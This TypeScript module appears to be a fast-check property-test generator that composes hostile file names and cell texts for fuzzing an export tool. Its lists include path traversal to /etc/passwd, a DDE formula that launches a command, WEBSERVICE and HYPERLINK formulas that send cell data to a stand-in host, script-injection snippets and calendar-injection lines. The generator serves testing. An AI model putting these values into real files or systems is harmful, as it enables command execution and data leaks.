/**
 * Names and work descriptions that try to make a file or a cell do something: for fast-check.
 *
 * Law: the same seed gives the same texts; many are twins of others, except for case, width or the encoding of an
 * accent.
 */

import fc from "fast-check";

const PATHS = [
  "../../etc/passwd",
  "..\\..\\Windows\\system32",
  "/etc/passwd",
  "C:\\Windows",
  "\\\\host\\share\\x",
  "~root",
  "$HOME",
  "%TEMP%",
  "x:stream",
  "a%2F..%2Fb",
];
const RESERVED = [
  "CON",
  "con.txt",
  "nul",
  "AUX .x",
  "LPT9",
  "COM¹",
  "PRN.",
  ".hidden",
  "desktop.ini",
  "~$Acme",
];
/** Names of files that a month's folder already contains. */
const OURS = ["Summary 2026-10", "Reminders 2026-10.ics", "run.json", "exceptions.csv", "index.html"];
const FORMULAS = [
  "=cmd|' /C calc'!A0",
  "=1+1",
  "+1",
  "-1",
  "@SUM(A1)",
  '=HYPERLINK("http://x.example/?"&A1,"y")',
  '=WEBSERVICE("http://x.example")',
  "＝1+1",
  // A spreadsheet that separates by semicolons sees three cells here, and lines that are rows.
  "a;=1+1;b",
  'a;"=1+1&";b',
  "a\n=1+1\nb",
  "a\r\n@SUM(A1)",
  "a\t+1\tb",
];
const REFERENCES = ["http://x.example", "mailto:a@x.example", "javascript:alert(1)", "file:///c:/x", "#ref"];
const PLACES = ["#'Ledger'!A1", "[1]Sheet1!A1", "'[x.xls]S'!A1", "Ledger[Date]", "#REF!", "TRUE"];
const MARKUP = [
  "_x0041_",
  "_x005F_x0041_",
  "</t></si><si><t>",
  "<f>1+1</f>",
  "]]>",
  "<!-- x",
  "<script>alert(1)</script>",
  '" onmouseover="alert(1)',
  "&amp;&lt;&#61;1",
  '&L&"x"&F&P',
  "x\r\nATTACH:http://x.example",
  "END:VEVENT\nBEGIN:VEVENT",
  "x\\, \\n; y",
];
const NAMES = [
  "Acme",
  "Zoé & Fils",
  "O'Neil",
  '"Chez" Ginette',
  "株式会社",
  "عميل",
  "😀 Ltd",
  // Letters with more than one case folding.
  "Straße",
  "STRASSE",
  "ſam",
  "Kelvin",
  "İstanbul ılık",
  "οδος",
  "ΟΔΟΣ σ",
];

/** Several of each, so that most texts begin and end normally. */
const BEFORE = ["", "", "", "", "", "", "=", "+", "-", "@", "\t", "\r", "\n", " ", "'", '"', ".", "..", "＝"];
const UNSEEN = ["\u202E", "\u200F", "\uFEFF", "\u200B", "\u0007", "\u001B[31m", "\u0000", "\u007F", "\u0085"];
const AFTER = ["", "", "", "", "", ".", " ", "...", " .", "\uD800", "\uDC00", ".xlsx", "_x0009_", "\n", "\r"];
const LONG = ["x".repeat(300), "é".repeat(200), "😀".repeat(90), "=".repeat(260)];

const TWINS: readonly ((text: string) => string)[] = [
  (text) => text,
  (text) => text.toUpperCase(),
  (text) => text.toLowerCase(),
  (text) => text.normalize("NFC"),
  (text) => text.normalize("NFD"),
  (text) => text.normalize("NFKC"),
  (text) => text.replace(/[!-~]/g, (sign) => String.fromCharCode(sign.charCodeAt(0) + 0xfee0)),
];

const core = fc.constantFrom(
  ...[...PATHS, ...RESERVED, ...OURS, ...FORMULAS, ...REFERENCES, ...PLACES, ...MARKUP, ...NAMES],
);
const rarely = (values: readonly string[], weight: number) =>
  fc.oneof(
    { weight: weight - 1, arbitrary: fc.constant("") },
    { weight: 1, arbitrary: fc.constantFrom(...values) },
  );
const composed = fc
  .tuple(
    fc.constantFrom(...BEFORE),
    rarely(UNSEEN, 6),
    core,
    fc.oneof(fc.constant(""), fc.nat(999).map(String)),
    fc.oneof(fc.constant(""), core),
    rarely(UNSEEN, 6),
    rarely(LONG, 25),
    fc.constantFrom(...AFTER),
    fc.constantFrom(...TWINS),
  )
  .map(([...parts]) => (parts.pop() as (text: string) => string)(parts.join("")));

export const hostileText: fc.Arbitrary<string> = fc.oneof(
  { weight: 8, arbitrary: composed },
  { weight: 1, arbitrary: fc.string({ unit: "binary", maxLength: 60 }) },
  { weight: 1, arbitrary: fc.string({ unit: "grapheme", maxLength: 60 }) },
);
